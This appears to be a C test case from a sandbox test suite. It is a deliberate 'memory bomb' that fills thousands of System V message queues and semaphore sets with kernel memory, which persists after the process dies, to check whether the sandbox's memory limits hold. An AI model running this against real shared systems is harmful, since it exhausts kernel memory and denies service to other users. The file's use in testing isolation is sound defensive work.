/* SPDX-License-Identifier: MIT */
/*
 * wins: kernel memory in message queues, 16 KiB each in 32,000 of them, and in semaphore sets; they stay when their maker dies
 * rule: 11 (MSGQUEUE 0), own ipc namespace, 4
 * expect: ok|memory_limit|signal
 * says: ^held mqueue (EMFILE|ENOSPC)$
 * limits: memory_bytes=67108864
 * needs: memory
 * else: ok
 * else-open: memory-over-the-limit
 * control: unsafe: a memory bomb
 */
#include "attack.h"

#include <mqueue.h>
#include <sys/msg.h>
#include <sys/sem.h>

int main(void)
{
	static struct {
		long type;
		char text[8192];
	} m = {1, ""};
	struct mq_attr a = {.mq_maxmsg = 10, .mq_msgsize = 8192};
	tried("mqueue", mq_open("/q", O_CREAT | O_RDWR, 0600, &a));
	long bytes = 0;
	for (int i = 0; i < 32000; i++) {
		int q = msgget(IPC_PRIVATE, 0600);
		if (q < 0) break;
		while (msgsnd(q, &m, sizeof m.text, IPC_NOWAIT) == 0) bytes += sizeof m.text, took(sizeof m.text);
		if (semget(IPC_PRIVATE, 32000, 0600) >= 0) took(32000 * 64);
	}
	say("queued %ld MiB", bytes >> 20);
	if (bytes > 64 << 20) say("WON queued-over-the-limit");
	return end();
}
